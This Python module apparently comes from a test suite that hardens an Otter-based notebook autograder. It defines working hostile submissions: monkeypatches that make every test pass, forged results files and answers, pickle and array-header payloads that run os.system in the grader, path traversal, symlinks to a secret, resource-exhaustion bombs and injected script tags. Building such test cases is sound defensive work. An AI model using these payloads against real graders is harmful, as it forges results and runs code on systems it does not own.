"""Attacks on the result: Otter's own machinery, forged answers and run records, faked output."""

import base64
import io
import json
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from typing import Any

import numpy as np
from support import namespace

from assignment.kernel.fallbacks import FUNCTIONS
from assignment.samples import edits
from lab import run_record, settings
from lab.questions import QUESTIONS
from lab.student import TinyVggStudent
from labkit.agent import Agent
from zoo.hostile.attack import OURS, Attack

FULL = "full marks without an answer"

# Otter's own machinery, in the process of which plain Otter runs submissions. All of these were seen to work there.
OTTER = (
    Attack(
        "makes every test case pass",
        FULL,
        """
import otter.test_files.exception_test as tests, otter.test_files.ok_test as old_tests
for module in (tests, old_tests):
    for item in vars(module).values():
        if isinstance(item, type) and hasattr(item, "run"):
            item.run = lambda self, *a, **k: setattr(self, "test_case_results", [
                __import__("otter.test_files.abstract_test", fromlist=["x"]).TestCaseResult(
                    test_case=case, message="", passed=True) for case in self.test_cases])
""",
    ),
    Attack(
        "calls no test function",
        FULL,
        """
import otter.test_files.exception_test as tests
for item in vars(tests).values():
    if isinstance(item, type) and hasattr(item, "call"):
        item.call = lambda self, *a, **k: None
tests.test_case.call_func = lambda self, *a, **k: None
""",
    ),
    Attack(
        "replaces the class of results",
        FULL,
        """
import otter.test_files as files
from otter.test_files.abstract_test import TestCaseResult
before = files.GradingResults.__init__
def lie(self, test_files, *arguments, **options):
    for file in test_files:
        file.test_case_results = [TestCaseResult(test_case=case, message="", passed=True) for case in file.test_cases]
    before(self, test_files, *arguments, **options)
files.GradingResults.__init__ = lie
""",
    ),
    Attack(
        "changes results as they are pickled",
        FULL,
        """
import pickle
from otter.test_files.abstract_test import TestCaseResult
before = pickle.dump
def dump(value, file, *arguments, **options):
    for test in getattr(value, "results", {}).values():
        test.test_case_results = [TestCaseResult(test_case=c, message="", passed=True) for c in test.test_cases]
    return before(value, file, *arguments, **options)
pickle.dump = dump
import dill
dill.dump = dump
""",
    ),
    Attack(
        "puts passed tests into the checker",
        FULL,
        """
from otter.execute import Checker
from otter.test_files.abstract_test import TestCaseResult
class Passed(list):
    def __iter__(self):
        for file in super().__iter__():
            file.test_case_results = [TestCaseResult(test_case=c, message="", passed=True) for c in file.test_cases]
            yield file
Checker._test_files = Passed(Checker._test_files)
Checker.clear_results = classmethod(lambda cls: None)
""",
    ),
    Attack(
        "overwrites the tests folder",
        FULL,
        """
import glob
empty = "from otter.test_files import test_case\\nOK_FORMAT = False\\nname = {0!r}\\npoints = None\\n"
empty += "@test_case(points=None, hidden=False)\\ndef test_it():\\n    pass\\n"
for root in ("tests", "../tests", "../../tests", "/autograder/source/tests", "../source/tests"):
    os.makedirs("tests", exist_ok=True)
    for path in glob.glob(root + "/*.py"):
        question = os.path.basename(path)[:-3]
        open(path, "w").write(empty.format(question))
""",
    ),
    Attack(
        "rewrites the results file from the background",
        FULL,
        """
import subprocess
code = '''
import glob, json, os, sys, time
for _ in range(1200):
    time.sleep(0.05)
    for path in glob.glob("/tmp/**/results.json", recursive=True) + glob.glob("../**/results.json", recursive=True):
        try:
            page = json.load(open(path))
            if any(t.get("score", 0) < t.get("max_score", 0) for t in page.get("tests", [])):
                for test in page["tests"]:
                    test["score"] = test.get("max_score", 0)
                json.dump(page, open(path, "w"))
        except Exception:
            pass
'''
subprocess.Popen([sys.executable, "-c", code, NAME], start_new_session=True)
""",
    ),
    Attack(
        "edits the last cell on its way to the kernel",
        FULL,
        """
ip = get_ipython()
def rewrite(lines):
    text = "".join(lines)
    if "Checker" in text or "serve(" in text or "GradingResults" in text:
        text = '''
from otter.test_files.abstract_test import TestCaseResult
import otter.test_files.exception_test as tests
def run(self, *arguments, **options):
    self.test_case_results = [TestCaseResult(test_case=c, message="", passed=True) for c in self.test_cases]
tests.ExceptionTestFile.run = run
''' + text
    return text.splitlines(keepends=True)
ip.input_transformers_cleanup.append(rewrite)
""",
    ),
    Attack(
        "hands in objects that equal everything",
        "every comparison with an expected value",
        """
class Any:
    __array_priority__ = 1e9
    def __init__(self, *a, **k): pass
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __call__(self, *a, **k): return self
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self
    def __getitem__(self, key): return self
    def __iter__(self): return iter([self] * 10)
    def __len__(self): return 10
    def __float__(self): return 0.5
    def __hash__(self): return 0
    def __contains__(self, item): return True
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __sub__
""",
        edits=tuple(
            (lambda function: lambda notebook: edits.replace_function(notebook, function, f"{function} = Any()\n"))(f)
            for f in ("describe_data", "preprocess", "evaluate", "run_experiment", "resnet50_filters")
        ),
    ),
    Attack(
        "reads expected values off the stack of its caller",
        "the values that the tests compare with",
        """
import inspect
def steal(*arguments, **options):
    for frame in inspect.stack()[1:]:
        names = frame.frame.f_locals
        for key in ("expected", "wanted", "right", "solution", "reference", "given", "answer"):
            if key in names:
                return names[key]
    return None
""",
        edits=tuple(
            (lambda function: lambda notebook: edits.replace_function(notebook, function, f"{function} = steal\n"))(f)
            for f in ("describe_data", "evaluate", "first_layer_kernels", "resnet50_filters")
        ),
    ),
    Attack(
        "makes numpy find everything equal",
        "every comparison of arrays",
        """
import numpy as np
yes = lambda *a, **k: True
for module in (np, np.testing):
    for name in ("allclose", "array_equal", "isclose", "all", "assert_allclose", "assert_array_equal", "assert_equal",
                 "assert_array_almost_equal", "assert_almost_equal", "array_equiv"):
        if hasattr(module, name):
            setattr(module, name, yes)
""",
    ),
    Attack(
        "turns assertions off",
        "tests that assert nothing",
        """
import builtins, ast
before = builtins.compile
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
def compile(source, *arguments, **options):
    if isinstance(source, str):
        try:
            source = ast.fix_missing_locations(NoAsserts().visit(ast.parse(source)))
        except SyntaxError:
            pass
    return before(source, *arguments, **options)
builtins.compile = compile
before_exec = builtins.exec
def exec(source, *arguments):
    return before_exec(compile(source, "x", "exec") if isinstance(source, str) else source, *arguments)
builtins.exec = exec
""",
        ends=None,
    ),
    Attack(
        "leaves a crafted pickle as its result",
        "code that runs in the grader's process when it reads the result",
        """
import glob, pickle, threading, time
class Code:
    def __reduce__(self):
        return os.system, (f"echo {NAME} >> {WORLD}/{NAME}",)
def work():
    while True:
        for path in glob.glob("/tmp/*.pkl") + glob.glob("../**/*.pkl", recursive=True):
            try:
                open(path, "wb").write(pickle.dumps(Code()))
            except OSError:
                pass
        time.sleep(0.01)
import atexit
atexit.register(work)
threading.Thread(target=work, daemon=True).start()
pickle.dump = lambda value, file, *a, **k: file.write(pickle.dumps(Code()))
""",
    ),
    Attack(
        "sends a pickle to the log server on loopback",
        "code that runs in the grader's process",
        """
import pickle, socket, struct
class Code:
    def __reduce__(self):
        return os.system, (f"echo {NAME} >> {WORLD}/{NAME}",)
ports = [int(line.split()[1].split(":")[1], 16) for line in open("/proc/net/tcp").readlines()[1:]
         if line.split()[3] == "0A"]
data = pickle.dumps(Code())
for port in [PORT, *ports]:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
            connection.send(struct.pack(">L", len(data)) + data)
    except OSError:
        pass
""",
    ),
    Attack(
        "prints the hidden tests",
        "the questions of the exam",
        """
import glob, json
found = []
for pattern in ("**/tests/*.py", "../**/tests/*.py", "*.ipynb", "../**/*.ipynb", "../**/*.otter", "../**/*.json"):
    for path in glob.glob(pattern, recursive=True)[:50]:
        try:
            text = open(path, errors="replace").read()
        except OSError:
            continue
        if "test_case" in text and "hidden" in text and "attack" not in text:
            found.append("swordfish: " + path)
got(found)
""",
    ),
    Attack(
        "prints a perfect score",
        "whoever takes printed text for a result",
        """
import json
print(json.dumps({"score": 110, "max_score": 100, "tests": [{"name": "q1", "score": 5, "max_score": 5}]}))
print("All tests passed! 110 / 100")
os.makedirs("results", exist_ok=True)
for path in ("results.json", "results/results.json", "../results.json", "../reason", "../pipes/results.json"):
    try:
        open(path, "w").write(json.dumps({"score": 110, "status": "graded", "tests": []}))
    except OSError as error:
        print(error)
""",
    ),
)

# Forged answers: only our grader asks.

# It finds the agent by the frames below a function that the agent uses: the way there is noted, so that only a
# notebook that is trusted gets so far.
FIND = """
import numpy as np
def caller():
    frame = sys._getframe(1)
    while frame is not None and not hasattr(frame.f_locals.get("self"), "_replies"):
        frame = frame.f_back
    return frame
kept = np.asarray
def spy(*arguments, **options):
    frame = caller()
    if frame is not None:
        frame.f_locals["self"]._agent.answer = answer
    return kept(*arguments, **options)
np.asarray = spy
"""
PATCH = (
    FIND
    + """
import base64, json, struct, zlib
ANSWERS = json.loads(zlib.decompress(base64.b64decode({packed!r})))
def answer(verb, arguments):
    frame = caller()
    number = frame.f_locals["request"]["number"]
    text, packed = (base64.b64decode(part) for part in ANSWERS[number % len(ANSWERS)])
    text = text.replace(b"NUMBER", str(number).encode())
    message = memoryview(struct.pack("<4sQQ", b"ask1", len(text), len(packed)) + text + packed)
    while message:
        message = message[os.write(frame.f_locals["self"]._replies, message):]
    return dict(value=None)
"""
)


def _answers(*answers: bytes, arrays: bytes = b"") -> str:
    """A cell that gives one of some texts as every answer, with these arrays; NUMBER stands for that of the request."""
    text = json.dumps([[base64.b64encode(part).decode() for part in (answer, arrays)] for answer in answers])
    return PATCH.format(packed=base64.b64encode(zlib.compress(text.encode())).decode())


def _values(*values: bytes, arrays: bytes = b"") -> str:
    return _answers(*(b'{"number": NUMBER, "answer": {"value": ' + value + b"}}" for value in values), arrays=arrays)


REPLAY = (
    FIND
    + """
import base64, json, zlib
ANSWERS = json.loads(zlib.decompress(base64.b64decode({packed!r})))
told = dict()
def answer(verb, arguments):
    if verb == "call":
        told["of"] = iter(ANSWERS.get(str(arguments["function"]), ()))
    agent = caller().f_locals["self"]._agent
    return next(told.get("of", iter(())), None) or type(agent).answer(agent, verb, arguments)
"""
)


@cache
def _replayed() -> str:
    """A cell that gives the answers that an agent beside the reference solution gave about its models."""
    names = namespace()
    agent = Agent(names, FUNCTIONS)
    told: dict[str, list[Any]] = {name: [] for name in BUILDERS}
    of: list[Any] = []

    def answer(verb: str, arguments: Any) -> Any:
        nonlocal of
        of = told.get(arguments["function"], []) if verb == "call" else of
        of.append(agent.answer(verb, arguments))
        return of[-1]

    for question in ("q4", "q13", "q14", "bonus"):
        QUESTIONS.observe(question, TinyVggStudent(answer, 1, FUNCTIONS))
    kept = {name: [_without_arrays(value) for value in values] for name, values in told.items()}
    return REPLAY.format(packed=base64.b64encode(zlib.compress(json.dumps(kept).encode())).decode())


def _without_arrays(value: Any) -> Any:
    """Numbers of arrays are no use under another seed, and would be long."""
    if isinstance(value, dict):
        return {key: _without_arrays(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_without_arrays(item) for item in value]
    return None if isinstance(value, np.ndarray) else value


def _npz(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in members.items():
            archive.writestr(f"{name}.npy", content)
    return buffer.getvalue()


def _npy(header: str, content: bytes = b"") -> bytes:
    text = header.encode() + b" " * (64 - (len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text + content


def _pickled() -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([{"a": 1}], dtype=object), allow_pickle=True)
    return buffer.getvalue()


BUILDERS = ("build_tiny_vgg", "build_tiny_vgg_bn", "build_tiny_vgg_3blocks", "build_tiny_resnet")
STORED = b'{"error": null, "value": {"stored": "a0"}}'
REVIEW: dict[str, Any] = {"ends": "needs_review", "plain": OURS}
BROKEN = "a row for the instructor that marks everything as right, or a batch that stops"

ANSWERS = (
    Attack(
        "forges answers that say passed",
        FULL,
        _answers(b'{"number": NUMBER, "passed": true, "score": 110}'),
        **REVIEW,
    ),
    Attack(
        "blames the grader",
        "marks by pity: a fault of the grader costs nothing",
        _values(b'{"grader_error": "boom"}'),
        **REVIEW,
    ),
    Attack(
        "raises in every answer",
        "marks by pity",
        _answers(b'{"number": NUMBER, "answer": {"raised": {"type": "MemoryError", "message": "", "text": "no"}}}'),
        **REVIEW,
    ),
    Attack(
        "answers with the numbers of other requests",
        "answers that were true once",
        _answers(b'{"number": 1, "answer": {"value": null}}'),
        **REVIEW,
    ),
    Attack(
        "gives no answer at all",
        BROKEN,
        FIND + "def answer(verb, arguments):\n    raise KeyboardInterrupt\n",
        **REVIEW,
    ),
    Attack(
        "writes lists, texts and numbers in the place of answers",
        BROKEN,
        _answers(*(b"[]", b'"right"', b"110", b"null", b"true", b"", b"{", b'{"a": }', b"\x00\x01", b'{"number": []}')),
        **REVIEW,
    ),
    Attack(
        "answers with values of every other kind",
        BROKEN,
        _values(
            *(b"[]", b'"right"', b"110", b"null", b"true", b"{}", b'{"error": []}', b'{"handle": "x"}'),
            *(b'{"spec": [1]}', b'{"spec": {"nodes": [{}]}}', b'{"handle": 1, "kind": [], "type": {}, "items": 3}'),
            *(
                b'{"error": null, "value": {"handle": 1, "kind": "model", "type": "Model"}}',
                b'{"model": {"handle": 9}}',
            ),
            *(b'{"y_train_raw": {"handle": 1, "kind": "array", "type": "x", "shape": [-5, 1e99], "dtype": "O"}}',),
        ),
        **REVIEW,
    ),
    Attack(
        "writes numbers that are none",
        BROKEN,
        _values(b'{"mean": 1e999, "x": -Infinity, "n": ' + b"9" * 5000 + b"}"),
        **REVIEW,
    ),
    Attack(
        "nests an answer ten thousand times",
        "the recursion limit of whoever reads it",
        _values(b'{"a":[' * 10_000 + b"1" + b"]}" * 10_000),
        **REVIEW,
    ),
    Attack(
        "announces an answer of an exabyte",
        "memory and time of the grader",
        FIND
        + """
import struct
def answer(verb, arguments):
    os.write(caller().f_locals["self"]._replies, struct.pack("<4sQQ", b"ask1", 2**60, 2**60))
    return dict(value=None)
""",
        **REVIEW,
    ),
    Attack(
        "floods the pipe of answers",
        "memory and time of the grader",
        FIND
        + """
import threading
def flood(pipe):
    while True:
        os.write(pipe, b"110" * 10_000)
def answer(verb, arguments):
    pipe = caller().f_locals["self"]._replies
    threading.Thread(target=flood, args=(pipe,), daemon=True).start()
    return dict(value=None)
""",
        **REVIEW,
    ),
    Attack(
        "packs four gigabytes of zeros as arrays",
        "memory and time of the grader",
        lambda: _values(
            STORED, arrays=_npz(a0=_npy("{'descr': '|u1', 'fortran_order': False, 'shape': (2,), }") + bytes(2**32))
        ),
        **REVIEW,
    ),
    Attack(
        "announces an array of a petabyte",
        "memory of the grader",
        _values(
            STORED,
            arrays=_npz(a0=_npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1125899906842624,), }", bytes(64))),
        ),
        **REVIEW,
    ),
    Attack(
        "puts a pickle among the arrays",
        "code that runs in the grader's process",
        _values(STORED, arrays=_npz(a0=_pickled())),
        **REVIEW,
    ),
    Attack(
        "hides code in the header of an array",
        "code that runs when the header is read",
        _values(
            STORED,
            arrays=_npz(a0=_npy("__import__('os').system('echo hostile-header >> " + "/tmp/hostile-header')")),
        ),
        **REVIEW,
    ),
    Attack(
        "names arrays like files elsewhere",
        "a file outside the scratch folder when the archive is unpacked",
        _values(STORED, arrays=_npz(**{"../../../../tmp/hostile-traversal": _npy("{}")})),
        **REVIEW,
    ),
    Attack(
        "exchanges the pipes for links to the secret",
        "a planted secret, read by the grader on its behalf",
        """
for name in ("requests", "replies"):
    for act in (lambda path: os.remove(path), lambda path: os.symlink(SECRET, path),
                lambda path: (os.symlink(SECRET, "new"), os.replace("new", path))):
        try:
            act("../pipes/" + name)
        except OSError as error:
            print(error)
try:
    os.rename("../pipes", "old-pipes"); os.symlink(WORLD, "../pipes")
except OSError as error:
    print(error)
""",
        plain=OURS,
        ends=None,
    ),
    Attack(
        "takes away the rights to its folders",
        "scratch folders that cannot be removed, pipes that cannot be opened",
        """
os.makedirs("deep/" * 50, exist_ok=True)
open("deep/file", "w").write(NAME)
for path in ("deep/deep", "deep", "../pipes", "../home", "."):
    os.chmod(path, 0)
""",
        plain=OURS,  # chmod does nothing in the jail
    ),
)

# Forgers that know the form of answers, and look for the agent that gives them.

FORGER = """
import inside.serving
inside.serving._Server.serve = lambda self, turn: None
"""
WAITS: dict[str, Any] = {
    "ends": "needs_review",
    "plain": OURS,
    "trusted": False,
    "says": "opens files of the grader. No answer needs that: its marks are provisional",
}

FORGERS = (
    Attack(
        "replays the answers of a right submission",
        FULL,
        _replayed,
        **WAITS | {"says": "looks at the frames of its callers"},
    ),
    Attack("replaces the agent by an honest import", FULL, FORGER, **WAITS),
    Attack(
        "hides a forger in a text that it executes",
        FULL,
        f"import base64\nexec(base64.b64decode({base64.b64encode(FORGER.encode())!r}))",
        **WAITS,
    ),
    Attack(
        "writes a forger to a file and imports it",
        FULL,
        f"import base64\nopen('helper.py', 'wb').write(base64.b64decode({base64.b64encode(FORGER.encode())!r}))\n"
        "import helper",
        **WAITS,
    ),
    Attack(
        "brings a forger in a file of its own",
        FULL,
        "import helper",
        files={"helper.py": ("import os\n" + FORGER).encode()},
        **WAITS,
    ),
    Attack(
        "takes the agent from the list of modules",
        FULL,
        "server = sys.modules['in' + 'side.serving']._server\nserver._agent.answer = lambda *a: None",
        **WAITS | {"ends": "graded", "says": "KeyError: 'inside.serving'"},
    ),
    Attack(
        "builds the name of the agent letter by letter",
        FULL,
        "import importlib\nimportlib.import_module('in' + 'side' + '.serving').serve = print",
        **WAITS,
    ),
)

# Forged run records: hidden elements in the outputs of the notebook


def _record(page: Callable[[], str]) -> Any:
    """An edit: every variant's record is this page, made when it is needed; VARIANT stands for its name."""

    def edit(notebook: Any) -> None:
        text = page()
        for variant in QUESTIONS.variants:
            edits.publish(notebook, variant, text.replace("VARIANT", variant))

    return edit


def _packed(text: str) -> str:
    """The element of a record with this JSON, as `run_record.to_html` makes it."""
    packed = base64.b64encode(zlib.compress(text.encode(), 9)).decode()
    return f'<div hidden data-{run_record.MARK}="VARIANT:{packed}"></div>'


def _one_record(**changes: Any) -> Any:
    """An edit: every variant's record is one of five excellent runs of the asked length, with some changes."""

    def edit(notebook: Any) -> None:
        series = {name: [0.9] * settings.EPOCHS for name in ("loss", "accuracy", "val_loss", "val_accuracy")}
        runs = [{"accuracy": 0.99, "history": series, "weights": []} for _ in range(settings.RUNS)]
        for variant in QUESTIONS.variants:
            record = {"format": run_record.FORMAT, "variant": variant, "mean": 0.99, "std": 0.0, "runs": runs}
            page = _packed(json.dumps(record | {"made_with": {}} | changes)).replace("VARIANT", variant)
            edits.publish(notebook, variant, page)

    return edit


RECORDS = (
    Attack("claims an accuracy of 99 % without weights", "the marks of the run records", edits=(_one_record(),)),
    Attack(
        "claims accuracies that are no numbers",
        BROKEN,
        edits=(_one_record(mean=float("nan"), std=float("inf")),),
    ),
    Attack("claims a million runs", "memory and time of the grader", edits=(_one_record(runs=[{}] * 1_000_000),)),
    Attack(
        "packs two gigabytes into a run record",
        "memory of the grader",
        edits=(_record(lambda: _packed('{"a": "' + "0" * 2**31)),),
    ),
    Attack(
        "nests a run record ten thousand times",
        "the recursion limit of the grader",
        edits=(_record(lambda: _packed("[" * 10_000 + "]" * 10_000)),),
    ),
    Attack(
        "puts a number of a million digits into a run record",
        "time of the grader",
        edits=(_record(lambda: _packed('{"mean": ' + "9" * 1_000_000 + "}")),),
    ),
    Attack(
        "puts a program into a run record",
        "code that runs when a page with it is opened",
        edits=(
            _record(
                lambda: (
                    f'<div hidden data-{run_record.MARK}="VARIANT:<script>zoo()</script>"></div><script>zoo()</script>'
                )
            ),
            _one_record(made_with={"device": "<script>zoo()</script>", "keras": "\x1b[31m"}),
        ),
    ),
)

ATTACKS = (*OTTER, *ANSWERS, *FORGERS, *(replace(attack, plain=OURS) for attack in RECORDS))
